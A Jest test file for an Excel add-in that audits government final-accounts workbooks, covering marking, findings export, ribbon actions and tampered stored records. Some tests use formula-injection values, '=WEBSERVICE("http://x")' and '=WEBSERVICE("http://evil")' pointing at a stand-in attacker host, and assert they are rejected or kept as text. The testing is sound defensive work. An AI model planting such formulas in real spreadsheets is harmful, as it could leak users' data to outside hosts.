/**
 * The reviewer's workflow against the fake Excel host on the sample workbook: what a check reads (syncs, bytes per
 * cell), marks that follow re-checks, the 检查结果 export, the ribbon's actions, and stored records that were tampered
 * with (never applied, always reported).
 */
import path from 'node:path';
import { readWorkbookFile } from '../../src/io/read';
import type { Grid } from '../../src/engine';
import { findingsTable, FINDINGS_SHEET } from '../../src/engine/report/findings-table';
import { FakeExcel, FakeWorkbookData } from '../../src/excel/fake/fake-excel';
import { fakeWorkbookFromGrid } from '../../src/excel/fake/from-grid';
import { writeFindingsSheet } from '../../src/excel/adapter';
import { MARK_FILLS, MARKS_KEY } from '../../src/excel/decisions';
import { workbookHost } from '../../src/excel/workflow';
import { ribbonCheck, ribbonClearMarks } from '../../src/excel/ribbon-actions';
import { FILLS_KEY, readFillUndo, writeFills } from '../../src/excel/writes';
import { planFill } from '../../src/engine/fill';
import { planWrites } from '../../src/taskpane/fills';

let grid: Grid;
let sheet04: string;

beforeAll(async () => {
  grid = await readWorkbookFile(path.resolve(__dirname, '../../examples/hongshan-2024.xlsx'));
  sheet04 = grid.sheets.find((s) => s.name.includes('04'))!.name;
});

const fresh = (): FakeWorkbookData => fakeWorkbookFromGrid(grid);
const PALETTE = new Set(Object.values(MARK_FILLS));

/** Cells of a sheet's used range (the bounding box of its non-empty cells), which a check reads in full. */
function usedCells(s: Grid['sheets'][number]): number {
  let r0 = Infinity, r1 = -1, c0 = Infinity, c1 = -1;
  s.rows.forEach((row, r) =>
    row?.forEach((cell, c) => {
      if (!cell) return;
      [r0, r1, c0, c1] = [Math.min(r0, r), Math.max(r1, r), Math.min(c0, c), Math.max(c1, c)];
    }),
  );
  return r1 < 0 ? 1 : (r1 - r0 + 1) * (c1 - c0 + 1);
}

/** Every cell of the saved workbook that shows one of the add-in's mark colours. */
function paintedCells(xl: FakeExcel): string[] {
  return xl.save().sheets.flatMap((s) => Object.entries(s.cells).filter(([, c]) => c.fill && PALETTE.has(c.fill)).map(([a]) => `${s.name}!${a}`));
}

describe('what a check reads', () => {
  it('takes two syncs and reads no cell formats: bytes per used cell stay far below the 5 MB response limit', async () => {
    const xl = new FakeExcel(fresh());
    const host = workbookHost(xl.run);
    const r = await host.check();
    expect(xl.syncCount).toBe(2);
    const cells = r.read.grid.sheets.reduce((n, s) => n + usedCells(s), 0);
    const perCell = xl.largestResponse / cells;
    // Values, shown text and number format of each cell of the used ranges, plus addresses and merges.
    expect(perCell).toBeLessThan(40);

    // What reading fill, font and borders of every cell would add (the earlier design): ten times as much.
    const formats = new FakeExcel(fresh());
    await formats.run(async (ctx) => {
      const ws = ctx.workbook.worksheets.getItem(sheet04);
      ws.getUsedRange(true).getCellProperties({ format: { fill: { color: true, pattern: true, tintAndShade: true }, font: { color: true }, borders: { color: true, style: true, weight: true } } });
      await ctx.sync();
    });
    expect(formats.bytesRead / usedCells(r.read.grid.sheets.find((s) => s.name === sheet04)!)).toBeGreaterThan(300);
  });
});

describe('marks follow the findings', () => {
  it('a re-check after fixing the cell restores its marks exactly; a new error gets marked', async () => {
    const xl = new FakeExcel(fresh());
    const before = xl.save();
    const host = workbookHost(xl.run);
    const r1 = await host.check();
    expect(r1.marks).toBeNull();
    const m = await host.mark(r1, r1.read.decisions);
    expect(Object.keys(m.decisions.marked)).toContain(`${sheet04}!G38`);
    expect(xl.cell(sheet04, 'G38').fill).toBe(MARK_FILLS.error);

    // The reviewer corrects G38 and checks again: no finding is left, so no mark may stay.
    await xl.userEdit(sheet04, 'G38', 1010.72);
    xl.syncCount = 0;
    const r2 = await host.check();
    expect(xl.syncCount).toBe(5);
    expect(r2.analysis.findings.filter((f) => f.severity === 'error')).toEqual([]);
    expect(r2.marks?.decisions.marked).toEqual({});
    expect(paintedCells(xl)).toEqual([]);
    const after = xl.save();
    const g38 = (d: FakeWorkbookData) => d.sheets.find((s) => s.name === sheet04)!.cells.G38;
    for (const s of after.sheets) {
      for (const [addr, cell] of Object.entries(s.cells)) {
        if (s.name === sheet04 && addr === 'G38') continue;
        expect(cell).toEqual(before.sheets.find((b) => b.name === s.name)!.cells[addr]);
      }
    }
    expect({ ...g38(after), value: undefined }).toEqual({ ...g38(before), value: undefined, text: undefined });

    // A new mistake elsewhere: the next re-check marks it without being asked, because marks are on.
    await host.mark(r2, r2.marks!.decisions);
    await xl.userEdit(sheet04, 'G38', 1010.7);
    const r3 = await host.check();
    expect(Object.keys(r3.marks!.decisions.marked)).toContain(`${sheet04}!G38`);
    expect(xl.cell(sheet04, 'G38').fill).toBe(MARK_FILLS.error);
  });
});

describe('the 检查结果 sheet', () => {
  it('lists every finding with a link to its cell, figures as numbers and text as text; replaces only when asked', async () => {
    const xl = new FakeExcel(fresh());
    const host = workbookHost(xl.run);
    const r = await host.check();
    const table = findingsTable(r.analysis.findings);
    xl.syncCount = 0;
    expect(await host.writeFindingsSheet(table, false)).toEqual({ done: true, rows: 4 });
    expect(xl.syncCount).toBe(2);
    expect(xl.activeSheet).toBe(FINDINGS_SHEET);
    const row = (n: number) => ['A', 'B', 'C', 'D', 'E', 'F', 'G', 'H', 'I', 'J', 'K'].map((c) => xl.cell(FINDINGS_SHEET, `${c}${n}`));
    expect(row(1).map((c) => c.value)).toEqual(['级别', '工作表', '单元格', '规则', '规则名称', '说明', '应为', '实为', '相差', '单位', '相关单元格']);
    const g38 = row(2);
    expect(g38.slice(0, 4).map((c) => c.value)).toEqual(['错误', sheet04, 'G38', 'sum/04-balance']);
    expect(g38[2].hyperlink).toMatchObject({ documentReference: `'${sheet04}'!G38` });
    expect(g38.slice(6, 9).map((c) => [c.value, c.numberFormat])).toEqual([
      [1010.72, '#,##0.00'],
      [1010.7, '#,##0.00'],
      [0.02, '#,##0.00'],
    ]);
    expect(g38[5]).toMatchObject({ numberFormat: '@' });
    expect(String(g38[5].value)).toContain('相差 0.02 万元');
    // The three relations of G38 are next to each other, then 公开06表 F6.
    expect([2, 3, 4, 5].map((n) => xl.cell(FINDINGS_SHEET, `C${n}`).value)).toEqual(['G38', 'G38', 'G38', 'F6']);
    expect(xl.frozenRows(FINDINGS_SHEET)).toBe(1);
    expect(xl.pageLayout(FINDINGS_SHEET)).toEqual({ orientation: 'Landscape', printGridlines: true, printTitleRows: '$1:$1' });

    // A second export never replaces the sheet silently.
    await xl.userEdit(FINDINGS_SHEET, 'A10', '审核意见');
    expect(await host.writeFindingsSheet(table, false)).toEqual({ done: false, exists: true });
    expect(xl.cell(FINDINGS_SHEET, 'A10').value).toBe('审核意见');
    expect(await host.writeFindingsSheet(table, true)).toEqual({ done: true, rows: 4 });
    expect(xl.cell(FINDINGS_SHEET, 'A10').value).toBe('');
    expect(xl.sheetNames().filter((n) => n === FINDINGS_SHEET)).toHaveLength(1);
  });

  it('edits in 检查结果 (the export itself, the reviewer\'s notes) do not make the check out of date', async () => {
    const xl = new FakeExcel(fresh());
    const host = workbookHost(xl.run);
    const edits: string[] = [];
    await host.watchEdits((a) => edits.push(a));
    await host.writeFindingsSheet(findingsTable((await host.check()).analysis.findings), false);
    await xl.userEdit(FINDINGS_SHEET, 'L2', '已核实');
    await new Promise((r) => setTimeout(r, 20));
    expect(edits).toEqual([]);
    await xl.userEdit(sheet04, 'G38', 1);
    expect(edits).toEqual(['G38']);
  });

  it('text that looks like a formula or a number stays text', async () => {
    const xl = new FakeExcel({ settings: {}, sheets: [{ name: "=S'1", cells: {}, merges: [] }] });
    const f = { rule: 'x/y', severity: 'error' as const, sheet: "=S'1", cell: 'A1', related: [], expected: null, actual: null, difference: null, tolerance: null, unit: null, message: '=WEBSERVICE("http://x")', table: '--' };
    await writeFindingsSheet(xl.run, findingsTable([f]), false);
    expect(xl.cell(FINDINGS_SHEET, 'F2')).toMatchObject({ value: '=WEBSERVICE("http://x")', numberFormat: '@' });
    expect(xl.cell(FINDINGS_SHEET, 'B2')).toMatchObject({ value: "=S'1", numberFormat: '@' });
    expect(xl.cell(FINDINGS_SHEET, 'F2').formula).toBeUndefined();
    expect(xl.cell(FINDINGS_SHEET, 'C2').hyperlink?.documentReference).toBe("'=S''1'!A1");
  });
});

describe('the ribbon actions', () => {
  it('检查工作簿 says what it found and marks; 清除标记 restores; no tables and failures are said too', async () => {
    const xl = new FakeExcel(fresh());
    const before = xl.save().sheets;
    const host = workbookHost(xl.run);
    const checked = await ribbonCheck(host);
    expect(checked.level).toBe('warning');
    expect(checked.message).toMatch(/^检查完毕：识别 9 \/ 9 张表；错误 1 处，警告 0 处，提示 1 处（按单元格计）；已标记 \d+ 个单元格/);
    expect(xl.cell(sheet04, 'G38').fill).toBe(MARK_FILLS.error);
    const cleared = await ribbonClearMarks(host);
    expect(cleared).toEqual({ level: 'success', message: expect.stringMatching(/^已清除 \d+ 个单元格的标记/) });
    expect(xl.save().sheets).toEqual(before);
    expect(await ribbonClearMarks(host)).toEqual({ level: 'success', message: '没有需要清除的标记。' });

    const blank = workbookHost(new FakeExcel({ settings: {}, sheets: [{ name: 'Sheet1', cells: { A1: { value: '你好' } }, merges: [] }] }).run);
    expect((await ribbonCheck(blank)).message).toMatch(/^未找到部门决算公开表/);
    const broken = workbookHost(() => Promise.reject(Object.assign(new Error('x'), { code: 'AccessDenied' })));
    expect(await ribbonCheck(broken)).toEqual({ level: 'error', message: expect.stringMatching(/^检查工作簿失败：工作簿或工作表受保护/) });
  });
});

describe('tampered mark records', () => {
  const format = { fill: null, fontColor: '#000000', borders: Object.fromEntries(['top', 'bottom', 'left', 'right'].map((s) => [s, { style: 'None', color: '#000000', weight: 'Thin' }])) };

  it('are reported and never written into cells', async () => {
    const data = fresh();
    const s04 = data.sheets.find((s) => s.name === sheet04)!;
    s04.cells.B7 = { ...s04.cells.B7, fill: '#00B050' };
    data.settings[MARKS_KEY] = {
      version: 1,
      marked: {
        // A range, not a cell: would repaint a whole block.
        [`${sheet04}!A1:Z99`]: format,
        // A colour that is not a colour.
        [`${sheet04}!C7`]: { ...format, fill: 'red;' },
        // Well formed, but B7 never showed the add-in's mark: the user's own green fill stays.
        [`${sheet04}!B7`]: format,
      },
    };
    const xl = new FakeExcel(data);
    const before = xl.save().sheets;
    const host = workbookHost(xl.run);
    const r = await host.check();
    expect(r.marks?.rejected.map((x) => x.key)).toEqual([`${sheet04}!A1:Z99`, `${sheet04}!C7`, `${sheet04}!B7`]);
    expect(r.marks?.rejected[2].reason).toMatch(/已不是决算助手的标记颜色/);
    expect(xl.save().sheets).toEqual(before);
    // The bad records are dropped from the workbook: the next check does not report them again.
    expect(xl.setting(MARKS_KEY)).toEqual({ version: 1, on: false, marked: {} });
    expect((await host.check()).marks).toBeNull();
  });
});

describe('tampered undo records', () => {
  async function filled() {
    const data = fresh();
    const s03 = data.sheets.find((s) => s.name.includes('03'))!;
    delete s03.cells.C7;
    const xl = new FakeExcel(data);
    const host = workbookHost(xl.run);
    await writeFills(xl.run, planWrites(planFill(await host.read()).fills));
    return { xl, host, s03: s03.name };
  }

  it('a crafted entry cannot write a formula, clear an amount the user typed, or stop the real fills from being undone', async () => {
    const { xl, host, s03 } = await filled();
    expect(xl.cell(s03, 'C7').value).toBe(1010.72);
    const record = xl.setting(FILLS_KEY) as { version: 1; entries: object[] };
    record.entries.push(
      // Restores a live formula into an amount cell.
      { sheet: sheet04, cell: 'G37', previous: '=WEBSERVICE("http://evil")', previousFormat: 'General', written: xl.cell(sheet04, 'G37').value },
      // "Undoes" an amount the user typed: 1,010.70 is what G38 holds, but no relation gives it.
      { sheet: sheet04, cell: 'G38', previous: '', previousFormat: 'General', written: 1010.7 },
      // Malformed entries.
      null as unknown as object,
      { sheet: sheet04, cell: 'A1:B2', previous: '', previousFormat: 'General', written: 1 },
    );
    await xl.run(async (ctx) => {
      ctx.workbook.settings.add(FILLS_KEY, record);
      await ctx.sync();
    });
    const g37 = xl.cell(sheet04, 'G37');
    const g38 = xl.cell(sheet04, 'G38');
    const u = await host.undoFills();
    expect(u.restored).toBe(1);
    expect(xl.cell(s03, 'C7').value).toBe('');
    expect(u.rejected.map((x) => x.key)).toEqual([`${sheet04}!G37`, '（无地址）', `${sheet04}!A1:B2`, `${sheet04}!G38`]);
    expect(u.rejected[0].reason).toMatch(/非空的原值/);
    expect(u.rejected[3].reason).toMatch(/不是按勾稽关系推算出的填报值/);
    expect(xl.cell(sheet04, 'G37')).toEqual(g37);
    expect(xl.cell(sheet04, 'G38')).toEqual(g38);
    expect(xl.save().sheets.flatMap((s) => Object.values(s.cells)).filter((c) => c.formula)).toEqual([]);
    expect(await readFillUndo(xl.run)).toBeNull();
  });

  it('a record that is not a record at all is reported and removed instead of breaking undo for good', async () => {
    const { xl, host } = await filled();
    await xl.run(async (ctx) => {
      ctx.workbook.settings.add(FILLS_KEY, { version: 1, entries: 'oops' });
      await ctx.sync();
    });
    expect(await host.undoFills()).toEqual({ restored: 0, changed: [], rejected: [{ key: FILLS_KEY, reason: '撤销记录的格式无效' }] });
    expect(xl.setting(FILLS_KEY)).toBeUndefined();
  });
});
